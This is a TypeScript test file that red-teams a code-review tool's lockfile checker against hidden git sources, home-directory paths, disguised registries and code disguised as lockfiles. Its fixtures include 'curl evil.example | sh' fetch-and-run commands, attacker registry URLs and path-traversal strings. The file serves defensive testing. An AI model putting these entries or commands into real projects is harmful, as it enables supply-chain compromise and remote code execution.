/**
 * Red team: a lockfile that hides a new source from the lockfile check, and a
 * file that borrows a lockfile's name to leave code review. The check sees
 * a home folder (`~/…`) as outside the repository, reads every Pipfile.lock
 * category (not only `default` and `develop`), refuses a source key that is
 * not a string, and a code file named like a lockfile is either reviewed or,
 * where its name is exactly a lockfile's, fails the check as unreadable.
 */
import { describe, expect, it } from "vitest";
import { checkLockfile, lockfileKindOf, type LockfileRule } from "../../src/review/lockfiles/index.js";
import { isInsideRepository } from "../../src/review/lockfiles/sources.js";
import { reviewFilePolicy, skipDecision } from "../../src/review/codeReview/filePolicy.js";
import type { FileDiff } from "../../src/review/codeReview/types.js";

const hex = (seed: string, length = 64) => seed.repeat(Math.ceil(length / seed.length)).slice(0, length);
const rules = (path: string, head: string, base: string | undefined): LockfileRule[] => checkLockfile(path, head, base).map((v) => v.rule);
const lineTexts = (path: string, head: string, base: string | undefined) => checkLockfile(path, head, base).map((v) => `${v.rule} ${v.text.trim()}`);

function pipfileLock(groups: Record<string, Record<string, object>>): string {
  const meta = { hash: { sha256: hex("9e") }, "pipfile-spec": 6, requires: {}, sources: [{ name: "pypi", url: "https://pypi.org/simple", verify_ssl: true }] };
  return `${JSON.stringify({ _meta: meta, ...groups }, null, 4)}\n`;
}
const IDNA = { hashes: [`sha256:${hex("c0")}`], version: "==3.4" };

describe("Pipfile.lock sources the check must see", () => {
  const base = pipfileLock({ default: { idna: IDNA }, develop: {} });

  it("blocks a git source in a custom package category (pipenv installs it with --categories)", () => {
    const head = pipfileLock({
      default: { idna: IDNA },
      develop: {},
      docs: { sphinxevil: { git: "https://github.com/attacker/sphinx.git", ref: "0123abcd" } },
    });
    expect(lineTexts("Pipfile.lock", head, base)).toEqual(['source "git": "https://github.com/attacker/sphinx.git",']);
  });

  it("fails closed on a category that is not a map of packages", () => {
    expect(
      rules("Pipfile.lock", pipfileLock({ default: { idna: IDNA }, docs: ["git+https://attacker.example/x"] as unknown as Record<string, object> }), base),
    ).toEqual(["unparseable"]);
  });

  it("blocks a folder in the home directory, which is outside the repository", () => {
    const head = pipfileLock({ default: { idna: IDNA, mine: { path: "~/src/mine", editable: true } } });
    expect(lineTexts("Pipfile.lock", head, base)).toEqual(['source "path": "~/src/mine",']);
  });

  it("fails closed on a source key that is not a string, rather than reading the package as from the index", () => {
    const head = pipfileLock({ default: { idna: IDNA, evil: { git: ["https://github.com/attacker/evil.git"], hashes: [`sha256:${hex("ab")}`] } } });
    expect(rules("Pipfile.lock", head, base)).toEqual(["unparseable"]);
  });

  it("reads a duplicated package key as pipenv does (the last one wins)", () => {
    const head = pipfileLock({ default: { idna: IDNA } }).replace(
      '"idna": {',
      '"idna": {"git": "https://github.com/attacker/idna.git", "ref": "0badc0de"},\n        "idna": {',
    );
    // JSON.parse, as Python's json, keeps the last value: the registry entry, which the base had.
    expect(rules("Pipfile.lock", head, base)).toEqual([]);
    const swapped = pipfileLock({ default: { idna: IDNA } }).replace(
      /"idna": \{[\s\S]*?\n {8}\}/,
      (entry) => `${entry},\n        "idna": {"git": "https://github.com/attacker/idna.git", "ref": "0badc0de"}`,
    );
    expect(rules("Pipfile.lock", swapped, base)).toEqual(["source"]);
  });
});

function gemfileLock(extra: string[]): string {
  return [...extra, "GEM", "  remote: https://rubygems.org/", "  specs:", "    rack (3.0.8)", "", "PLATFORMS", "  ruby", "", "DEPENDENCIES", "  rack", ""].join(
    "\n",
  );
}

describe("Gemfile.lock sources the check must see", () => {
  const base = gemfileLock([]);

  it("blocks a PATH in the home directory (Bundler expands `~`), an absolute one and one above the repository", () => {
    for (const remote of ["~/gems/evil", "~root/evil", "/opt/evil", "../../outside", "C:/evil", "..\\..\\evil"]) {
      const head = gemfileLock(["PATH", `  remote: ${remote}`, "  specs:", "    evil (0.1.0)", ""]);
      expect(lineTexts("Gemfile.lock", head, base), remote).toEqual([`source remote: ${remote}`]);
    }
    expect(rules("Gemfile.lock", gemfileLock(["PATH", "  remote: gems/mine", "  specs:", "    mine (0.1.0)", ""]), base)).toEqual([]);
  });

  it("blocks a second gem server hidden in the GEM section", () => {
    const head = base.replace("  remote: https://rubygems.org/\n", "  remote: https://rubygems.org/\n  remote: https://rubygems.org@gems.attacker.example/\n");
    expect(rules("Gemfile.lock", head, base)).toEqual(["registry"]);
  });

  it("fails closed on a blank line inside a section (Bundler skips it, so its specs count)", () => {
    const head = base.replace("  specs:\n", "\n  specs:\n");
    expect(rules("Gemfile.lock", head, base)).toEqual(["unparseable"]);
  });
});

const CRATES = "registry+https://github.com/rust-lang/crates.io-index";
const cargoLock = (source: string) =>
  [
    "version = 3",
    "",
    "[[package]]",
    'name = "app"',
    'version = "0.1.0"',
    "",
    "[[package]]",
    'name = "serde"',
    'version = "1.0.188"',
    `source = ${source}`,
    `checksum = "${hex("cf")}"`,
    "",
  ].join("\n");

describe("Cargo.lock sources spelt oddly", () => {
  const base = cargoLock(`"${CRATES}"`);

  it("blocks git written with escapes, in another case, or as a literal string", () => {
    expect(rules("Cargo.lock", cargoLock('"\\u0067it+https://github.com/attacker/serde#0123"'), base)).toEqual(["source"]);
    expect(rules("Cargo.lock", cargoLock('"Git+https://github.com/attacker/serde#0123"'), base)).toEqual(["source"]);
    expect(rules("Cargo.lock", cargoLock("'git+https://github.com/attacker/serde#0123'"), base)).toEqual(["unparseable"]);
    expect(rules("Cargo.lock", cargoLock('"""git+https://github.com/attacker/serde#0123"""'), base)).toEqual(["unparseable"]);
  });

  it("blocks a registry that differs only after the index's name", () => {
    expect(rules("Cargo.lock", cargoLock(`"${CRATES}@attacker.example"`), base)).toEqual(["registry"]);
    expect(rules("Cargo.lock", cargoLock(`"${CRATES} sparse+https://attacker.example/"`), base)).toEqual(["registry"]);
  });

  it("blocks a path source in the home directory", () => {
    expect(rules("Cargo.lock", cargoLock('"path+file://~/evil"'), base)).toEqual(["source"]);
  });
});

describe("a file named like a lockfile", () => {
  const policy = reviewFilePolicy({ withheld: () => undefined });
  const file = (path: string): FileDiff => ({ path, status: "added", binary: false, additions: 1, deletions: 0, patch: `@@ -0,0 +1 @@\n+fn main() {}\n` });

  it("is reviewed when its name only starts or ends like one, or a folder has a lockfile's name", () => {
    for (const path of ["src/Cargo.lock.rs", "go.sum/main.go", "Cargo.lock/src/lib.rs", "src/my-go.sum", "cargo.lock", "yarn.lock.js", "go.mod"]) {
      expect(lockfileKindOf(path), path).toBeUndefined();
      expect(skipDecision(file(path), policy), path).toBeUndefined();
    }
  });

  it("when its name is exactly a lockfile's, its code fails the lockfile check as unreadable: a 🔴, never a silent skip", () => {
    const code = 'package main\n\nimport "os/exec"\n\nfunc init() { exec.Command("sh", "-c", "curl evil.example | sh").Run() }\n';
    expect(skipDecision(file("tools/go.sum"), policy)?.reason).toBe("lockfile");
    expect(rules("tools/go.sum", code, undefined)).toEqual(["unparseable"]);
    expect(rules("src/Cargo.lock", 'fn main() { std::process::Command::new("sh"); }\n', undefined)).toEqual(["unparseable"]);
    expect(rules("lib/Gemfile.lock", "system('curl evil.example | sh')\n", undefined)).toEqual(["unparseable"]);
    expect(rules("app/Pipfile.lock", "import os; os.system('id')\n", undefined)).toEqual(["unparseable"]);
  });
});

describe("a folder spelt with percent escapes", () => {
  const lock = (resolved: string) =>
    `${JSON.stringify(
      {
        name: "app",
        version: "1.0.0",
        lockfileVersion: 3,
        requires: true,
        packages: { "": { name: "app", version: "1.0.0" }, "node_modules/evil": { version: "1.0.0", resolved } },
      },
      null,
      2,
    )}\n`;
  const base = lock("https://registry.npmjs.org/evil/-/evil-1.0.0.tgz").replace('"resolved"', '"integrity": "sha512-AAAA", "resolved"');

  it("is outside the repository when its escapes climb out (npm reads `file:` as a URL, where %2e%2e is ..)", () => {
    expect(isInsideRepository("", "%2e%2e/%2e%2e/evil")).toBe(false);
    expect(isInsideRepository("", "packages/%2E%2e/../../evil")).toBe(false);
    expect(isInsideRepository("", "bad%escape")).toBe(false);
    expect(isInsideRepository("", "packages/%40scope/lib")).toBe(true);
    expect(rules("package-lock.json", lock("file:%2e%2e/%2e%2e/evil"), base)).toEqual(["source"]);
  });
});
